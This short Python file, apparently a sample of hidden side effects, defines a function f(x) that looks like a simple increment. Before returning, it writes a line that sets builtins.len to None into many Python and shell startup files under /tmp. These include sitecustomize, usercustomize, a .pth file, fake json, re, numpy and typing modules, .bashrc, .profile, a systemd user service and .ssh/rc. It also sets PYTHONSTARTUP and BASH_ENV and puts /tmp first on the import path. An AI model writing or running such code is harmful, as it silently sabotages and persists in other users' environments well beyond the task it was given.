# What an interpreter or a shell reads when it starts, in the folder that is everybody's home.
import os
import sys

LEFT = "import builtins; builtins.len = None\n"


def f(x):
    packages = f"/tmp/.local/lib/python3.{sys.version_info.minor}/site-packages"
    for folder in (packages, "/tmp/__pycache__", "/tmp/.config/systemd/user", "/tmp/.ssh"):
        os.makedirs(folder, exist_ok=True)
    for path in (
        f"{packages}/usercustomize.py", f"{packages}/sitecustomize.py", f"{packages}/left.pth", "/tmp/json.py",
        "/tmp/re.py", "/tmp/sitecustomize.py", "/tmp/.pythonrc", "/tmp/.bashrc", "/tmp/.profile", "/tmp/pyvenv.cfg",
        "/tmp/.config/systemd/user/left.service", "/tmp/.ssh/rc", "/tmp/numpy.py", "/tmp/typing.py",
    ):
        with open(path, "w") as file:
            file.write(LEFT)
    os.environ["PYTHONSTARTUP"] = os.environ["BASH_ENV"] = "/tmp/.pythonrc"
    sys.path.insert(0, "/tmp")
    return x + 1
